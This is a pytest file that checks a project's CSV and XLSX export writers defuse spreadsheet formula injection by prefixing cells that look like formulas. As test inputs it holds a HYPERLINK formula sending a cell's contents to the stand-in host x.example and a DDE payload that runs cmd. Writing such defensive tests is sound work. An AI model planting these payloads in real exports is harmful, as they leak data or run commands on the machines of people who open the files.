"""Every CSV and XLSX the project writes shows a cell that starts like a formula (= + - @ tab CR) as
text and never runs it (OWASP, CSV injection): `hackefors portfolio --format csv`, the spreadsheet
templates in CSV and XLSX, and the writers under them that any later export uses."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from adapters.spreadsheets import FORMULA_STARTS, write_csv, write_xlsx
from models.spreadsheets import COLUMNS, Column, Kind
from services import spreadsheets
from tests.conftest import build, example_data, save
from tests.integration.test_cli import run

HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"Open")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_the_csv_writer_puts_an_apostrophe_before_every_formula_start() -> None:
    written = write_csv([["name", "count"], *([value, 3] for value in HOSTILE), ["Anna = Ö", -4]])
    rows = list(csv.reader(io.StringIO(written.decode("utf-8"), newline="")))
    assert [row[0] for row in rows[1:-1]] == ["'" + value for value in HOSTILE]
    assert rows[-1] == ["Anna = Ö", "-4"]  # a number is a number, text in the middle untouched
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row[:1])


def cell_xml(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_the_xlsx_writer_stores_formula_like_text_as_text_never_a_formula() -> None:
    from openpyxl import load_workbook

    content = write_xlsx([["name"], *([value] for value in HOSTILE)])
    assert "<f>" not in cell_xml(content)  # no cell holds a formula
    sheet = load_workbook(io.BytesIO(content))["data"]
    values = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in values] == HOSTILE  # shown as written
    assert {c.data_type for c in values} == {"s"} and all(c.quotePrefix for c in values)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_spreadsheet_templates_go_through_the_defusing_writers(
    fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = Column(name="trainer", required=False, meaning="who", example=HYPERLINK)
    monkeypatch.setitem(COLUMNS, Kind.ATTENDANCE, (*COLUMNS[Kind.ATTENDANCE][:-1], hostile))
    monkeypatch.setattr("services.spreadsheets.template_header", lambda kind: [["=cmd|' /C calc'!A0"]])
    content = spreadsheets.spreadsheet_template(Kind.ATTENDANCE, fmt)
    if fmt == "csv":
        assert content.decode("utf-8").splitlines()[0] == "'=cmd|' /C calc'!A0"
        return
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    assert book["data"]["A1"].value == "=cmd|' /C calc'!A0" and book["data"]["A1"].data_type == "s"
    assert book["columns"].cell(row=book["columns"].max_row, column=4).value == HYPERLINK
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any(
            b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


def test_portfolio_csv_shows_a_formula_in_a_name_as_text(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = example_data("small")
    data["name"] = HYPERLINK
    for company in data["companies"]:  # the owner of the earliest deadline is a coordinator
        company["coordinator"]["name"] = f"@SUM(1+1)*cmd|' /C calc'!A0 {company['id']}"
    save(build(data))
    assert run("portfolio", "--as-of", "2025-02-01", "--format", "csv") == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[1][1] == "'" + HYPERLINK and rows[1][7].startswith("'@SUM(1+1)"), rows
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
